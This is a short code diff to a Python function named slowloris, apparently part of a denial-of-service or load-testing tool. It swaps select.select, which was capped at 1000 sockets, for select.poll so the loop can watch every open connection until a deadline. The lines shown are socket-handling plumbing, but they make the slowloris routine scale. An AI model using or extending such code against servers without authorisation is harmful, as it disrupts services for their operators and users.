@@ -184,8 +184,11 @@ def slowloris(up, args):
     pending = {s.fileno(): s for s in socks}
     deadline = time.time() + 120
     while pending and time.time() < deadline:
-        ready, _, _ = select.select(list(pending.values())[:1000], [], [], 0.5)
-        for s in ready:
+        poller = select.poll()
+        for fd in pending:
+            poller.register(fd, select.POLLIN | select.POLLHUP | select.POLLERR)
+        for fd, _ in poller.poll(500):
+            s = pending[fd]
             try:
                 data = s.recv(65536)
             except OSError:
